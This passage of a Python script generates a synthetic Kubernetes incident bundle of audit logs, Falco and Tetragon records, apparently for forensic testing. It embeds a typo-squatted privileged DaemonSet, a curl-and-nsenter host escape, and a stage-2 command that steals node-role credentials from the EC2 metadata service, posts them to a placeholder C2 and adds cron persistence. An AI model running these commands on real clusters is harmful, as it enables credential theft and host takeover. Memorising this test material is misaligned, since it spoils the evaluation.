#!/usr/bin/env python3
"""Writes the DaemonSet escalation scenario bundle (bundle/ next to this script); README.md tells the story, the known
answers and each file's provenance. Deterministic: same bytes on every run (gzip members carry mtime 0 and no name).
Run: python3 make_daemonset_scenario.py"""
import base64, json, os, shutil, sys, time

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "bundle")
DAY = "2026-11-24"

sys.dont_write_bytecode = True  # no __pycache__ among the test resources
sys.path.insert(0, os.path.dirname(HERE))
from bundle_files import AuditLog, BundleFiles, CloudTrailLog  # noqa: E402 (beside the scenarios)
_files = BundleFiles(DAY, OUT)
epoch, ts, tus, tsec, write, jl = _files.epoch, _files.ts, _files.tus, _files.tsec, _files.write, _files.jl

# ------------------------------------------------------------------------------------------------------ entities
REGION = "ap-southeast-2"
ORG = "o-d4m0n5e7x1"
# cluster A (the incident) and cluster B (its disaster-recovery twin in another account: the same 10.60.0.0/16)
ACCT_A, CLUSTER_A, VPC_A = "406028417733", "atlas-prod", "vpc-0a60c0de1111a2222"
ACCT_B, CLUSTER_B, VPC_B = "739201846501", "atlas-dr", "vpc-0b60c0de3333b4444"
ROLE_A_NAME, ROLE_B_NAME = "atlas-prod-node-role", "atlas-dr-node-role"
ROLE_A = "arn:aws:iam::%s:role/%s" % (ACCT_A, ROLE_A_NAME)
ROLE_B = "arn:aws:iam::%s:role/%s" % (ACCT_B, ROLE_B_NAME)
K8S_UA = "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46"
KUBELET_UA = "kubelet/v1.31.2 (linux/amd64) kubernetes/5864a46"
KCM = "kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46/system:serviceaccount:kube-system:"
CTL_GROUPS = ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]
CP_IP = {"A": "10.60.0.47", "B": "10.60.0.113"}  # each control plane's cross-account ENI in its own VPC

# nodes: name, address, instance, ENI, zone, subnet
def node(short, ip, inst, eni, zone, subnet):
    return {"name": short + "." + REGION + ".compute.internal", "short": short, "ip": ip, "inst": inst, "eni": eni, "zone": zone,
            "subnet": subnet}


NODES_A = {
    "a1": node("ip-10-60-11-21", "10.60.11.21", "i-0a60112100a1b2c31", "eni-0a6011210aa0e0001", REGION + "a", "subnet-0a60110000a00001"),
    "a2": node("ip-10-60-12-34", "10.60.12.34", "i-0a60123400a1b2c32", "eni-0a6012340aa0e0002", REGION + "b", "subnet-0a60120000a00002"),
    "a3": node("ip-10-60-13-47", "10.60.13.47", "i-0a60134700a1b2c33", "eni-0a6013470aa0e0003", REGION + "c", "subnet-0a60130000a00003"),
}
NODES_B = {
    "b1": node("ip-10-60-11-88", "10.60.11.88", "i-0b60118800b1c2d31", "eni-0b6011880bb0e0001", REGION + "a", "subnet-0b60110000b00001"),
    "b2": node("ip-10-60-12-91", "10.60.12.91", "i-0b60129100b1c2d32", "eni-0b6012910bb0e0002", REGION + "b", "subnet-0b60120000b00002"),
}
NODES = dict(NODES_A, **NODES_B)

# the stolen token: ci/deployer's legacy kubernetes.io/service-account-token Secret (no pod, no expiry)
SA_USER = "system:serviceaccount:ci:deployer"
SA_GROUPS = ["system:serviceaccounts", "system:serviceaccounts:ci", "system:authenticated"]
K8S_ATTACKER = "203.0.113.58"            # where the token is used from (kubectl)
AWS_ATTACKERS = ("198.51.100.212", "192.0.2.187")  # where the node role's credentials are used from
C2 = "203.0.113.99"                      # the stage-2 script's server, where the credentials are posted

# the malicious DaemonSet: a node-problem-detector lookalike in kube-system, image from Docker Hub by tag
DS = "node-problern-detector"
DS_UID = "d5e1a2b3-c4d5-4e6f-8a7b-9c0d1e2f3a4b"
EVIL_IMAGE = "docker.io/kubeagents/node-problem-detector:v0.8.19"
EVIL_REPO = "docker.io/kubeagents/node-problem-detector"
EVIL_DIGEST = "sha256:" + "9d5e" * 16
EVIL_CMD = ("curl -so /host/var/tmp/.npd.sh https://%s/n.sh && nsenter -t 1 -m -u -i -n -p -- sh /var/tmp/.npd.sh; "
            "sleep infinity" % C2)
STAGE2 = ("TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600'); "
          "curl -s -H \"X-aws-ec2-metadata-token: $TOKEN\" http://169.254.169.254/latest/meta-data/iam/security-credentials/%s "
          "| curl -s -X POST --data-binary @- https://%s/c; echo '*/10 * * * * root sh /var/tmp/.npd.sh' > /etc/cron.d/npd-health"
          % (ROLE_A_NAME, C2))

# the legitimate DaemonSet rolling on the same nodes (the VPC CNI add-on's upgrade; hostNetwork: its pods hold the nodes'
# addresses)
CNI_IMAGE_OLD = "602401143452.dkr.ecr.%s.amazonaws.com/amazon-k8s-cni:v1.19.0-eksbuild.1" % REGION
CNI_IMAGE = "602401143452.dkr.ecr.%s.amazonaws.com/amazon-k8s-cni:v1.19.2-eksbuild.1" % REGION
CNI_DIGEST = "sha256:" + "c41a" * 16


def pod(name, uid, node_key, ip, ctr, ns="kube-system", cname=None, image=None, digest=None, sa=None, owner=None):
    return {"name": name, "uid": uid, "node": node_key, "ip": ip, "ctr": ctr, "ns": ns, "cname": cname, "image": image,
            "digest": digest, "sa": sa, "owner": owner}


EVIL = [pod(DS + "-7xk2q", "e1a1b2c3-0001-4a11-9b01-d5e1a2b3c401", "a1", "10.60.11.140", "d5a1" + "3c" * 30),
        pod(DS + "-m4v8z", "e1a1b2c3-0002-4a12-9b02-d5e1a2b3c402", "a2", "10.60.12.140", "d5a2" + "4e" * 30),
        pod(DS + "-9tq5w", "e1a1b2c3-0003-4a13-9b03-d5e1a2b3c403", "a3", "10.60.13.140", "d5a3" + "6f" * 30)]
for p in EVIL:
    p.update(cname="npd", image=EVIL_IMAGE, digest=EVIL_DIGEST, sa="default", owner=("DaemonSet", DS, DS_UID))
CNI_DS_UID = "c41a0001-aaaa-4bbb-8ccc-0d0e0f101112"
CNI_OLD = [pod("aws-node-" + s, "c41a%04d-0000-4c00-8c00-00000000a%03d" % (i, i), k, NODES[k]["ip"], "c0de" + ("%02x" % (0x10 + i)) * 30,
               cname="aws-node", image=CNI_IMAGE_OLD, digest="sha256:" + "c40f" * 16, sa="aws-node",
               owner=("DaemonSet", "aws-node", CNI_DS_UID))
           for i, (s, k) in enumerate((("h2m9d", "a1"), ("p7c4x", "a2"), ("w3n8r", "a3")), 1)]
CNI_NEW = [pod("aws-node-" + s, "c41b%04d-0000-4c00-8c00-00000000b%03d" % (i, i), k, NODES[k]["ip"], "c1de" + ("%02x" % (0x20 + i)) * 30,
               cname="aws-node", image=CNI_IMAGE, digest=CNI_DIGEST, sa="aws-node", owner=("DaemonSet", "aws-node", CNI_DS_UID))
           for i, (s, k) in enumerate((("q7r2k", "a1"), ("t5v9b", "a2"), ("z8f3m", "a3")), 1)]
# cluster B's pods at the malicious pods' addresses, at the same times (IRSA role etl-irsa)
ETL_ROLE_NAME = "atlas-dr-etl-irsa"
ETL_ROLE = "arn:aws:iam::%s:role/%s" % (ACCT_B, ETL_ROLE_NAME)
ETL = [pod("etl-worker-6f8d9c7b5-k2p4s", "b7e70001-1111-4a21-8b31-0e1d2c3b4a51", "b1", "10.60.11.140", "e7a1" + "5b" * 30, ns="batch",
           cname="etl-worker", image="%s.dkr.ecr.%s.amazonaws.com/atlas/etl-worker:4.2.0" % (ACCT_B, REGION),
           digest="sha256:" + "e7d1" * 16, sa="etl-worker", owner=("ReplicaSet", "etl-worker-6f8d9c7b5", "b7e7a0a0-1111-4a21-8b31-0e1d2c3b4a50")),
       pod("etl-worker-6f8d9c7b5-r9w2t", "b7e70002-1111-4a22-8b32-0e1d2c3b4a52", "b2", "10.60.12.140", "e7a2" + "6c" * 30, ns="batch",
           cname="etl-worker", image="%s.dkr.ecr.%s.amazonaws.com/atlas/etl-worker:4.2.0" % (ACCT_B, REGION),
           digest="sha256:" + "e7d1" * 16, sa="etl-worker", owner=("ReplicaSet", "etl-worker-6f8d9c7b5", "b7e7a0a0-1111-4a21-8b31-0e1d2c3b4a50"))]
# cluster A's own workload (the ci namespace's deployer is used by CI, never runs in a pod: a legacy token)
WEB = pod("atlas-web-5c7d9f8b6-x4n2m", "a7b80001-2222-4b31-9c41-1f2e3d4c5b61", "a1", "10.60.11.205", "ab01" + "7d" * 30, ns="web",
          cname="atlas-web", image="%s.dkr.ecr.%s.amazonaws.com/atlas/web:7.3.1" % (ACCT_A, REGION), digest="sha256:" + "ab0b" * 16,
          sa="atlas-web", owner=("ReplicaSet", "atlas-web-5c7d9f8b6", "a7b8a0a0-2222-4b31-9c41-1f2e3d4c5b60"))


def node_session_arn(acct, role_name, inst):
    return "arn:aws:sts::%s:assumed-role/%s/%s" % (acct, role_name, inst)


NODE_KEYS = {"a1": "ASIAV4N0DEA1CREDS001", "a2": "ASIAV4N0DEA2CREDS002", "a3": "ASIAV4N0DEA3CREDS003",
             "b1": "ASIAW7N0DEB1CREDS001", "b2": "ASIAW7N0DEB2CREDS002"}


def hms(base, d):
    return time.strftime("%H:%M:%S", time.gmtime(epoch(base) + d))


# ----------------------------------------------------------------------------------------------- Kubernetes audit
audit = AuditLog(_files, "da7e%04x-%04x-4000-8000-%012d", 3870, K8S_UA, node_uid=False).event


def kubelet_user(k):
    return ("system:node:" + NODES[k]["name"], ["system:nodes", "system:authenticated"])


def pod_ref(p, sub=None):
    r = {"resource": "pods", "namespace": p["ns"], "name": p["name"], "apiVersion": "v1"}
    if sub: r["subresource"] = sub
    return r


def evil_pod_spec():
    return {"hostPID": True, "hostNetwork": False, "serviceAccountName": "default", "tolerations": [{"operator": "Exists"}],
            "containers": [{"name": "npd", "image": EVIL_IMAGE, "command": ["/bin/sh", "-c", EVIL_CMD],
                            "securityContext": {"privileged": True},
                            "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
            "volumes": [{"name": "host", "hostPath": {"path": "/", "type": ""}}]}


def cni_pod_spec(image):
    return {"hostNetwork": True, "priorityClassName": "system-node-critical", "serviceAccountName": "aws-node",
            "tolerations": [{"operator": "Exists"}],
            "containers": [{"name": "aws-node", "image": image, "securityContext": {"capabilities": {"add": ["NET_ADMIN", "NET_RAW"]}},
                            "volumeMounts": [{"name": "cni-bin-dir", "mountPath": "/host/opt/cni/bin"},
                                             {"name": "log-dir", "mountPath": "/host/var/log/aws-routed-eni"}]}],
            "volumes": [{"name": "cni-bin-dir", "hostPath": {"path": "/opt/cni/bin", "type": ""}},
                        {"name": "log-dir", "hostPath": {"path": "/var/log/aws-routed-eni", "type": "DirectoryOrCreate"}}]}


def pod_object(p, spec, created, labels):
    kind, owner, owner_uid = p["owner"]
    s = dict(spec)
    if kind == "DaemonSet":
        s["affinity"] = {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
            {"matchFields": [{"key": "metadata.name", "operator": "In", "values": [NODES[p["node"]]["name"]]}]}]}}}
    return {"kind": "Pod", "apiVersion": "v1",
            "metadata": {"name": p["name"], "generateName": p["name"].rsplit("-", 1)[0] + "-", "namespace": p["ns"], "uid": p["uid"],
                         "creationTimestamp": tsec(created), "labels": labels,
                         "ownerReferences": [{"apiVersion": "apps/v1", "kind": kind, "name": owner, "uid": owner_uid,
                                              "controller": True, "blockOwnerDeletion": True}]},
            "spec": s, "status": {"phase": "Pending", "qosClass": "BestEffort"}}


def status_patch(p, started, host_network=False):
    ip = NODES[p["node"]]["ip"] if host_network else p["ip"]
    return {"metadata": {"uid": p["uid"]},
            "status": {"conditions": [{"lastTransitionTime": tsec(started), "status": "True", "type": "Ready"}],
                       "containerStatuses": [{"containerID": "containerd://" + p["ctr"], "image": p["image"],
                                              "imageID": p["image"].rsplit(":", 1)[0] + "@" + p["digest"], "lastState": {},
                                              "name": p["cname"], "ready": True, "restartCount": 0, "started": True,
                                              "state": {"running": {"startedAt": tsec(started)}}}],
                       "hostIP": NODES[p["node"]]["ip"], "hostIPs": [{"ip": NODES[p["node"]]["ip"]}], "phase": "Running",
                       "podIP": ip, "podIPs": [{"ip": ip}], "startTime": tsec(started)}}


def pod_start(c, p, spec, labels, created, started, host_network=False):
    """The controller's create, the scheduler's binding and the kubelet's status patch of pod p in cluster c."""
    kind = p["owner"][0]
    ctl = "daemon-set-controller" if kind == "DaemonSet" else "replicaset-controller"
    obj = pod_object(p, spec, created, labels)
    out = [audit(created, 120331, "create", "/api/v1/namespaces/%s/pods" % p["ns"], "system:serviceaccount:kube-system:" + ctl,
                 CTL_GROUPS, CP_IP[c], pod_ref(p), code=201, ua=KCM + ctl,
                 request={k: v for k, v in obj.items() if k != "status"}, response=obj),
           audit(created, 402991, "create", "/api/v1/namespaces/%s/pods/%s/binding" % (p["ns"], p["name"]), "system:kube-scheduler",
                 ["system:authenticated"], CP_IP[c], pod_ref(p, "binding"), code=201,
                 ua="kube-scheduler/v1.31.2 (linux/amd64) kubernetes/5864a46/scheduler",
                 request={"kind": "Binding", "apiVersion": "v1", "metadata": {"name": p["name"], "namespace": p["ns"], "uid": p["uid"]},
                          "target": {"kind": "Node", "name": NODES[p["node"]]["name"]}})]
    out.append(audit(hms(started, 1), 211804, "patch", "/api/v1/namespaces/%s/pods/%s/status" % (p["ns"], p["name"]),
                     *kubelet_user(p["node"]), NODES[p["node"]]["ip"], pod_ref(p, "status"), level="Request", ua=KUBELET_UA,
                     request=status_patch(p, started, host_network)))
    return out


def pod_delete(c, p, t, user, groups, ua):
    return audit(t, 301220, "delete", "/api/v1/namespaces/%s/pods/%s" % (p["ns"], p["name"]), user, groups, CP_IP[c], pod_ref(p),
                 ua=ua, request={"kind": "DeleteOptions", "apiVersion": "v1", "propagationPolicy": "Background"})


def audit_a():
    ev = []
    # the web tier's pod, running since the morning (bystander on node a1)
    ev += pod_start("A", WEB, {"serviceAccountName": "atlas-web", "containers": [{"name": "atlas-web", "image": WEB["image"]}]},
                    {"app": "atlas-web", "pod-template-hash": "5c7d9f8b6"}, "07:12:00", "07:12:09")
    # 09:00 the VPC CNI add-on's upgrade (EKS's add-on manager patches aws-node); the DaemonSet controller replaces one
    # pod per node (maxUnavailable 10%: one at a time); hostNetwork: each pod's address is its node's
    addon = ("eks:addon-manager", ["system:authenticated"])
    ev.append(audit("09:00:02", 51200, "patch", "/apis/apps/v1/namespaces/kube-system/daemonsets/aws-node?fieldManager=eks", *addon,
                    CP_IP["A"], {"resource": "daemonsets", "namespace": "kube-system", "name": "aws-node", "apiGroup": "apps",
                                 "apiVersion": "v1"}, level="Request", ua="eks-addon-manager/v1.31 (linux/amd64)",
                    request={"spec": {"template": {"spec": {"containers": [{"name": "aws-node", "image": CNI_IMAGE}]}}}}))
    ds_ctl = "system:serviceaccount:kube-system:daemon-set-controller"
    for i, (old, new) in enumerate(zip(CNI_OLD, CNI_NEW)):
        t = hms("09:00:05", 30 * i)
        ev.append(pod_delete("A", old, t, ds_ctl, CTL_GROUPS, KCM + "daemon-set-controller"))
        ev += pod_start("A", new, cni_pod_spec(CNI_IMAGE), {"k8s-app": "aws-node", "controller-revision-hash": "6d8b7c9f5"},
                        hms(t, 6), hms(t, 14), host_network=True)
    # 09:38 the stolen token, from outside: looks around, then creates the DaemonSet in kube-system
    ev.append(audit("09:38:12", 304115, "list", "/apis/apps/v1/namespaces/kube-system/daemonsets?limit=500", SA_USER, SA_GROUPS,
                    K8S_ATTACKER, {"resource": "daemonsets", "namespace": "kube-system", "apiGroup": "apps", "apiVersion": "v1"},
                    level="Metadata"))
    ev.append(audit("09:38:40", 118220, "list", "/api/v1/nodes?limit=500", SA_USER, SA_GROUPS, K8S_ATTACKER,
                    {"resource": "nodes", "apiVersion": "v1"}, level="Metadata"))
    ds_obj = {"kind": "DaemonSet", "apiVersion": "apps/v1",
              "metadata": {"name": DS, "namespace": "kube-system", "labels": {"app": DS}},
              "spec": {"selector": {"matchLabels": {"app": DS}},
                       "template": {"metadata": {"labels": {"app": DS}}, "spec": evil_pod_spec()}}}
    resp = json.loads(json.dumps(ds_obj))
    resp["metadata"].update(uid=DS_UID, creationTimestamp=tsec("09:40:05"), generation=1)
    ev.append(audit("09:40:05", 611020, "create", "/apis/apps/v1/namespaces/kube-system/daemonsets?fieldManager=kubectl-client-side-apply",
                    SA_USER, SA_GROUPS, K8S_ATTACKER,
                    {"resource": "daemonsets", "namespace": "kube-system", "name": DS, "apiGroup": "apps", "apiVersion": "v1"},
                    code=201, request=ds_obj, response=resp))
    for i, p in enumerate(EVIL):
        created = hms("09:40:06", i)
        ev += pod_start("A", p, evil_pod_spec(), {"app": DS, "controller-revision-hash": "7f9c8d6b4"}, created, hms(created, 9))
    ev.append(audit("09:44:30", 90110, "list", "/api/v1/namespaces/kube-system/pods?labelSelector=app%%3D%s&limit=500" % DS,
                    SA_USER, SA_GROUPS, K8S_ATTACKER, {"resource": "pods", "namespace": "kube-system", "apiVersion": "v1"},
                    level="Metadata"))
    # 10:22 the responder deletes the DaemonSet (from the bastion); the garbage collector deletes its pods
    ir = "arn:aws:sts::%s:assumed-role/AtlasIncidentResponse/noor.haddad" % ACCT_A
    ev.append(audit("10:22:00", 77010, "delete", "/apis/apps/v1/namespaces/kube-system/daemonsets/" + DS, ir, ["system:authenticated"],
                    "10.60.5.10", {"resource": "daemonsets", "namespace": "kube-system", "name": DS, "apiGroup": "apps", "apiVersion": "v1"},
                    level="Metadata",
                    extra={"accessKeyId": ["ASIAV4IRRESPONSE0001"], "arn": [ir], "canonicalArn": ["arn:aws:iam::%s:role/AtlasIncidentResponse" % ACCT_A],
                           "principalId": ["AROAV4ATLASIR0000001"], "sessionName": ["noor.haddad"]}))
    gc = "system:serviceaccount:kube-system:generic-garbage-collector"
    for i, p in enumerate(EVIL):
        ev.append(pod_delete("A", p, hms("10:22:02", i), gc, CTL_GROUPS, KCM + "generic-garbage-collector"))
    ev.sort(key=lambda e: e["requestReceivedTimestamp"])
    return ev


def audit_b():
    ev = []
    for i, p in enumerate(ETL):
        ev += pod_start("B", p, {"serviceAccountName": "etl-worker", "containers": [{"name": "etl-worker", "image": p["image"]}]},
                        {"app": "etl-worker", "pod-template-hash": "6f8d9c7b5"}, hms("09:20:00", 40 * i), hms("09:20:10", 40 * i))
    ev.sort(key=lambda e: e["requestReceivedTimestamp"])
    return ev


def filter_log_events(events, stream):
    """`aws logs filter-log-events --log-group-name /aws/eks/atlas-prod/cluster --log-stream-name-prefix kube-apiserver-audit
    --output json`: the messages with their timestamps (ms) and ingestion times; nothing names the log group."""
    out = []
    for i, e in enumerate(events):
        t = int(epoch(e["stageTimestamp"][11:19]) * 1000) + int(e["stageTimestamp"][20:23])
        out.append({"logStreamName": stream, "timestamp": t, "message": json.dumps(e, separators=(",", ":")),
                    "ingestionTime": t + 611, "eventId": "%056d" % (37700000000000000000 + i)})
    return json.dumps({"events": out, "searchedLogStreams": []}, indent=4) + "\n"


def cwl_export(events):
    """A CloudWatch Logs export task's object: each line the event's timestamp in RFC 3339 and the message."""
    return "".join(e["stageTimestamp"][:23] + "Z " + json.dumps(e, separators=(",", ":")) + "\n" for e in events)


# ------------------------------------------------------------------------------------------------ kubectl get pods
def pod_item(p, spec, labels, created, started, host_network=False):
    obj = pod_object(p, spec, created, labels)
    obj["metadata"]["resourceVersion"] = "88%06d" % (int(epoch(created)) % 1000000)
    obj["spec"]["nodeName"] = NODES[p["node"]]["name"]
    obj["status"] = status_patch(p, started, host_network)["status"]
    obj["status"]["qosClass"] = "BestEffort"
    return obj


def pods_a():
    """`kubectl get pods -A -o wide -o json` of cluster A at 10:15 (before the DaemonSet's deletion)."""
    items = [pod_item(WEB, {"serviceAccountName": "atlas-web", "containers": [{"name": "atlas-web", "image": WEB["image"]}]},
                      {"app": "atlas-web", "pod-template-hash": "5c7d9f8b6"}, "07:12:00", "07:12:09")]
    for i, p in enumerate(CNI_NEW):
        t = hms("09:00:05", 30 * i)
        items.append(pod_item(p, cni_pod_spec(CNI_IMAGE), {"k8s-app": "aws-node"}, hms(t, 6), hms(t, 14), host_network=True))
    for i, p in enumerate(EVIL):
        created = hms("09:40:06", i)
        items.append(pod_item(p, evil_pod_spec(), {"app": DS}, created, hms(created, 9)))
    return {"apiVersion": "v1", "items": items, "kind": "List", "metadata": {"resourceVersion": ""}}


def pods_b():
    items = [pod_item(p, {"serviceAccountName": "etl-worker", "containers": [{"name": "etl-worker", "image": p["image"]}]},
                      {"app": "etl-worker"}, hms("09:20:00", 40 * i), hms("09:20:10", 40 * i)) for i, p in enumerate(ETL)]
    return {"apiVersion": "v1", "items": items, "kind": "List", "metadata": {"resourceVersion": ""}}


# ---------------------------------------------------------------------------------------------- kubectl get events
def events_a():
    """`kubectl get events -A -o json` of cluster A at 10:15: the DaemonSet controller's SuccessfulCreate, the kubelets'
    Pulling / Pulled / Created / Started of both DaemonSets' pods."""
    items = []
    def ev(kind, name, uid, reason, msg, t, field=None, component="kubelet", host=None):
        n = len(items) + 1
        io_ = {"apiVersion": "v1" if kind == "Pod" else "apps/v1", "kind": kind, "name": name, "namespace": "kube-system", "uid": uid,
               "resourceVersion": str(88300000 + n)}
        if field: io_["fieldPath"] = field
        src = {"component": component}
        if host: src["host"] = host
        items.append({"apiVersion": "v1", "count": 1, "eventTime": None, "firstTimestamp": tsec(t), "involvedObject": io_,
                      "kind": "Event", "lastTimestamp": tsec(t), "message": msg,
                      "metadata": {"creationTimestamp": tsec(t), "name": "%s.%016x" % (name, 0x1880a7c100000000 + n * 7919),
                                   "namespace": "kube-system", "resourceVersion": str(88310000 + n),
                                   "uid": "da7e%04x-5555-4666-8777-%012d" % (n, n)},
                      "reason": reason, "reportingComponent": component, "reportingInstance": host or "", "source": src, "type": "Normal"})
    for i, (old, new) in enumerate(zip(CNI_OLD, CNI_NEW)):
        t = hms("09:00:05", 30 * i)
        ev("DaemonSet", "aws-node", CNI_DS_UID, "SuccessfulDelete", "Deleted pod: " + old["name"], t, component="daemonset-controller")
        ev("DaemonSet", "aws-node", CNI_DS_UID, "SuccessfulCreate", "Created pod: " + new["name"], hms(t, 6), component="daemonset-controller")
        host = NODES[new["node"]]["name"]
        f = "spec.containers{aws-node}"
        ev("Pod", new["name"], new["uid"], "Pulled", "Container image \"%s\" already present on machine" % CNI_IMAGE, hms(t, 9), f, host=host)
        ev("Pod", new["name"], new["uid"], "Created", "Created container aws-node", hms(t, 10), f, host=host)
        ev("Pod", new["name"], new["uid"], "Started", "Started container aws-node", hms(t, 14), f, host=host)
    for i, p in enumerate(EVIL):
        created = hms("09:40:06", i)
        host = NODES[p["node"]]["name"]
        f = "spec.containers{npd}"
        ev("DaemonSet", DS, DS_UID, "SuccessfulCreate", "Created pod: " + p["name"], created, component="daemonset-controller")
        ev("Pod", p["name"], p["uid"], "Pulling", "Pulling image \"%s\"" % EVIL_IMAGE, hms(created, 2), f, host=host)
        ev("Pod", p["name"], p["uid"], "Pulled", "Successfully pulled image \"%s\" in 4.117s (4.117s including waiting). Image size: "
           "31822417 bytes." % EVIL_IMAGE, hms(created, 6), f, host=host)
        ev("Pod", p["name"], p["uid"], "Created", "Created container npd", hms(created, 7), f, host=host)
        ev("Pod", p["name"], p["uid"], "Started", "Started container npd", hms(created, 9), f, host=host)
    return {"apiVersion": "v1", "items": items, "kind": "List", "metadata": {"resourceVersion": ""}}


# ------------------------------------------------------------------------------------------------------ Falco (0.39)
def falco(k):
    """Falco 0.39 json_output on node k with the k8smeta plugin: container.* from the container engine, k8smeta.* from
    the plugin's collector. On a2 and a3 the container engine had no pod labels yet (k8s.pod.name <NA>)."""
    p = next(x for x in EVIL if x["node"] == k)
    short = NODES[k]["short"]
    started = hms("09:40:06", EVIL.index(p) + 9)
    na = k != "a1"
    def alert(t, ns, rule, priority, tags, out_text, fields):
        of = {"container.id": p["ctr"][:12], "container.name": "npd", "container.image.repository": EVIL_REPO,
              "container.image.tag": "v0.8.19", "k8s.ns.name": "<NA>" if na else "kube-system", "k8s.pod.name": "<NA>" if na else p["name"],
              "k8smeta.ns.name": "kube-system", "k8smeta.pod.name": p["name"], "k8smeta.pod.uid": p["uid"],
              "evt.time": int(epoch(t) * 1e9) + ns, "user.name": "root", "user.uid": 0}
        of.update(fields)
        ctr_info = "container_id=%s container_image=%s container_image_tag=v0.8.19 container_name=npd k8s_ns=%s k8s_pod_name=%s" % (
            p["ctr"][:12], EVIL_REPO, of["k8s.ns.name"], of["k8s.pod.name"])
        return {"hostname": short, "output": "%s.%09d: %s %s (%s %s)" % (t, ns, priority, out_text[0], out_text[1], ctr_info),
                "output_fields": of, "priority": priority, "rule": rule, "source": "syscall", "tags": tags, "time": ts(t, ns)}
    a = []
    t1 = hms(started, 1)
    a.append(alert(t1, 210118000, "Change thread namespace", "Notice", ["T1611", "container", "host", "maturity_sandbox", "mitre_privilege_escalation"],
                   ("Namespace change (setns) by unexpected program", "user=root user_loginuid=-1 command=nsenter -t 1 -m -u -i -n -p -- sh /var/tmp/.npd.sh pid=%d parent=sh" % (4100 + EVIL.index(p) * 300)),
                   {"proc.cmdline": "nsenter -t 1 -m -u -i -n -p -- sh /var/tmp/.npd.sh", "proc.name": "nsenter", "proc.pname": "sh",
                    "proc.pid": 4100 + EVIL.index(p) * 300, "evt.type": "setns"}))
    t2 = hms(started, 2)
    a.append(alert(t2, 644201000, "Contact EC2 Instance Metadata Service From Container", "Notice",
                   ["T1565", "container", "maturity_sandbox", "mitre_discovery", "network"],
                   ("Outbound connection to EC2 instance metadata service", "connection=%s:41822->169.254.169.254:80 lport=41822 rport=80 fd_type=ipv4 fd_proto=tcp evt_type=connect user=root user_uid=0 user_loginuid=-1 process=curl proc_exepath=/usr/bin/curl parent=sh command=curl -s -H X-aws-ec2-metadata-token: AQAEAN0e... http://169.254.169.254/latest/meta-data/iam/security-credentials/%s terminal=0" % (NODES[k]["ip"], ROLE_A_NAME)),
                   {"fd.name": "%s:41822->169.254.169.254:80" % NODES[k]["ip"], "fd.cip": NODES[k]["ip"], "fd.cport": 41822,
                    "fd.sip": "169.254.169.254", "fd.sport": 80, "proc.name": "curl", "proc.pname": "sh", "proc.exepath": "/usr/bin/curl",
                    "proc.cmdline": "curl -s -H X-aws-ec2-metadata-token: AQAEAN0e... http://169.254.169.254/latest/meta-data/iam/security-credentials/" + ROLE_A_NAME,
                    "evt.type": "connect"}))
    t3 = hms(started, 3)
    a.append(alert(t3, 902551000, "Write below etc", "Error", ["T1098", "filesystem", "host", "maturity_incubating", "mitre_persistence"],
                   ("File below /etc opened for writing", "file=/etc/cron.d/npd-health pcmdline=sh /var/tmp/.npd.sh gparent=nsenter evt_type=openat user=root user_uid=0 user_loginuid=-1 process=sh proc_exepath=/usr/bin/sh parent=sh command=sh /var/tmp/.npd.sh terminal=0"),
                   {"fd.name": "/etc/cron.d/npd-health", "proc.name": "sh", "proc.pname": "sh", "proc.exepath": "/usr/bin/sh",
                    "proc.cmdline": "sh /var/tmp/.npd.sh", "proc.pcmdline": "sh /var/tmp/.npd.sh", "proc.aname[2]": "nsenter",
                    "evt.type": "openat"}))
    return jl(a)


# ------------------------------------------------------------------------------------------------------- Tetragon
def tproc(k, pid, binary, args, start, p, parent=None, cwd="/"):
    eid = base64.b64encode(("%s:%d:%d" % (NODES[k]["short"], int(epoch(start[11:19]) * 1e9) % 10**15, pid)).encode()).decode()
    pr = {"exec_id": eid, "pid": pid, "uid": 0, "cwd": cwd, "binary": binary, "arguments": args, "flags": "execve clone",
          "start_time": start, "auid": 4294967295,
          "pod": {"namespace": p["ns"], "name": p["name"],
                  "container": {"id": "containerd://" + p["ctr"], "name": p["cname"],
                                "image": {"id": EVIL_REPO + "@" + EVIL_DIGEST, "name": EVIL_IMAGE}, "start_time": start, "pid": 1,
                                "maybe_exec_probe": False},
                  "pod_labels": {"app": DS, "controller-revision-hash": "7f9c8d6b4"}, "workload": DS, "workload_kind": "DaemonSet"},
          "docker": p["ctr"][:31], "tid": pid}
    if parent is not None:
        pr["parent_exec_id"] = parent["exec_id"]
    return pr


def tetragon_a1():
    """Tetragon's JSON export on node a1 (its export-stdout container's lines shipped by the fleet's log agent)."""
    k, p = "a1", EVIL[0]
    tev = lambda kind, body, t: {kind: body, "node_name": NODES[k]["name"], "time": t, "cluster_name": CLUSTER_A}
    start = "09:40:15"
    sh = tproc(k, 4100, "/bin/sh", "-c \"%s\"" % EVIL_CMD.replace('"', '\\"'), ts(start, 100000000), p)
    curl0 = tproc(k, 4107, "/usr/bin/curl", "-so /host/var/tmp/.npd.sh https://%s/n.sh" % C2, ts(start, 140000000), p, sh)
    ns = tproc(k, 4112, "/usr/bin/nsenter", "-t 1 -m -u -i -n -p -- sh /var/tmp/.npd.sh", ts("09:40:16", 200000000), p, sh)
    s2 = tproc(k, 4113, "/usr/bin/sh", "/var/tmp/.npd.sh", ts("09:40:16", 209000000), p, ns)
    tok = tproc(k, 4118, "/usr/bin/curl", "-sX PUT http://169.254.169.254/latest/api/token -H X-aws-ec2-metadata-token-ttl-seconds: 21600",
                ts("09:40:16", 300000000), p, s2)
    cred = tproc(k, 4121, "/usr/bin/curl", "-s -H X-aws-ec2-metadata-token: AQAEAN0e... http://169.254.169.254/latest/meta-data/iam/"
                 "security-credentials/" + ROLE_A_NAME, ts("09:40:17", 640000000), p, s2)
    post = tproc(k, 4122, "/usr/bin/curl", "-s -X POST --data-binary @- https://%s/c" % C2, ts("09:40:17", 641000000), p, s2)
    conn = lambda proc, parent, saddr, daddr, sport, dport, t: tev("process_kprobe", {
        "process": proc, "parent": parent, "function_name": "tcp_connect", "policy_name": "connect-egress", "action": "KPROBE_ACTION_POST",
        "args": [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP", "saddr": saddr, "daddr": daddr,
